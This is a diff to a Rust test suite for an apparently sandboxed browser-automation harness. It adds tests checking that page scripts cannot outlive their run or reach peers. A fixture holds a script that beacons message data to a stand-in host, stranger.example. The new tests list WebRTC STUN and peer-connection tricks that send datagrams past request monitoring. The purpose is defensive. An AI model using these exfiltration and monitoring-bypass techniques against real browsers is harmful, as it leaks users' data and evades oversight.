@@ -4,6 +4,7 @@
 
 mod support;
 
+use std::sync::atomic::{AtomicUsize, Ordering};
 use std::sync::{Arc, Mutex};
 use std::time::{Duration, Instant};
 
@@ -92,6 +93,7 @@ fn answer(request: &Request<Body>, noted: &Mutex<Vec<String>>) -> Response<Body>
             "<script>onmessage = (e) => { new Image().src = 'http://stranger.example/told?' + e.data }</script>".to_owned()
         }
         "/framed" => "<iframe src='http://widget.example/widget'></iframe>".to_owned(),
+        "/with-frame" => "<iframe src='/inner'></iframe>".to_owned(),
         "/clobbered" => {
             "<form name=head></form><form name=createElement></form><form id=head></form>".to_owned()
         }
@@ -604,7 +606,15 @@ async fn other_spellings_frames_and_traps_change_nothing() {
 #[tokio::test(flavor = "multi_thread")]
 async fn nothing_of_a_script_outlives_its_run() {
     let stage = Stage::start().await;
-    for (n, more) in ["", "onbeforeunload = () => 'stay'"].iter().enumerate() {
+    for (n, more) in [
+        "",
+        "onbeforeunload = () => 'stay'",
+        "setTimeout(() => alert('wait'), 50)",
+        "setInterval(() => alert('again'), 50)",
+    ]
+    .iter()
+    .enumerate()
+    {
         let at = format!("{HOME}stays-{n}");
         let run = stage.run(&at).await;
         let code = format!(
@@ -634,6 +644,103 @@ async fn nothing_of_a_script_outlives_its_run() {
         other.detach().await;
     }
     assert_eq!(stage.strangers(), Vec::<String>::new());
+}
+
+/// Ways past the requests that a browser tells of: datagrams to `PORT` of this machine.
+const BESIDE: &[(&str, &str)] = &[
+    ("stun", "await gather(window, 'stun:127.0.0.1:PORT')"),
+    (
+        "stun-in-frame",
+        "const f = document.createElement('iframe'); document.body.append(f); await gather(f.contentWindow, 'stun:127.0.0.1:PORT')",
+    ),
+    (
+        "stun-in-srcdoc",
+        "const f = document.createElement('iframe'); f.srcdoc = 'x'; const there = new Promise((r) => { f.onload = r }); \
+         document.body.append(f); await Promise.race([there, wait(1000)]); await gather(f.contentWindow, 'stun:127.0.0.1:PORT')",
+    ),
+    (
+        "stun-in-old-frame",
+        "await gather(frames[0], 'stun:127.0.0.1:PORT')",
+    ),
+    (
+        "peer",
+        "const p = new RTCPeerConnection(), q = new RTCPeerConnection(); p.createDataChannel('a'); await p.setLocalDescription(); \
+         await q.setRemoteDescription(p.localDescription); await q.setLocalDescription(); await p.setRemoteDescription(q.localDescription); \
+         await p.addIceCandidate({candidate: 'candidate:1 1 udp 2113937151 127.0.0.1 PORT typ host', sdpMid: '0', sdpMLineIndex: 0}); await wait(500)",
+    ),
+];
+
+fn beside(code: &str, port: u16) -> String {
+    format!(
+        "const wait = (ms) => new Promise((done) => setTimeout(done, ms)); \
+         const gather = async (w, urls) => {{ const p = new w.RTCPeerConnection({{iceServers: [{{urls, username: 'a', credential: 'b'}}]}}); \
+         p.createDataChannel('a'); await p.setLocalDescription(); await wait(500) }}; \
+         try {{ {} }} catch (e) {{ return 'threw ' + e }}",
+        code.replace("PORT", &port.to_string())
+    )
+}
+
+/// A socket that notes what comes.
+struct Peer {
+    port: u16,
+    came: Arc<AtomicUsize>,
+}
+
+impl Peer {
+    async fn open() -> Self {
+        let socket = tokio::net::UdpSocket::bind("127.0.0.1:0").await.unwrap();
+        let port = socket.local_addr().unwrap().port();
+        let came = Arc::<AtomicUsize>::default();
+        let noted = came.clone();
+        tokio::spawn(async move {
+            let mut read = [0; 2048];
+            while socket.recv_from(&mut read).await.is_ok() {
+                noted.fetch_add(1, Ordering::SeqCst);
+            }
+        });
+        Self { port, came }
+    }
+
+    /// What has come since the last time.
+    fn take(&self) -> usize {
+        self.came.swap(0, Ordering::SeqCst)
+    }
+
+    /// Something has come.
+    async fn reached(&self) -> bool {
+        let end = Instant::now() + Duration::from_secs(5);
+        while self.came.load(Ordering::SeqCst) == 0 && Instant::now() < end {
+            tokio::time::sleep(STEP).await;
+        }
+        self.take() > 0
+    }
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn a_script_connects_to_no_peers() {
+    let stage = Stage::start().await;
+    let peer = Peer::open().await;
+    let run = stage.run(HOME).await;
+    for (name, code) in BESIDE {
+        run.go("http://home.example/with-frame").await;
+        let outcome = run.code(&beside(code, peer.port)).await;
+        assert_eq!(peer.take(), 0, "{name}: {outcome:?}");
+    }
+    // The same where nothing holds them, so that each could have come.
+    let mut lame = Vec::new();
+    for (name, code) in BESIDE {
+        run.go("http://home.example/with-frame").await;
+        peer.take();
+        let code = format!(
+            "(async () => {{ {} }})().then((told) => {{ window.told = told }}); 0",
+            beside(code, peer.port)
+        );
+        run.says(&code).await;
+        if !peer.reached().await {
+            lame.push(format!("{name}: {}", run.says("window.told").await));
+        }
+    }
+    assert_eq!(lame, Vec::<String>::new());
 }
 
 /// Without the hold each of the ways arrives, so the test above can fail.
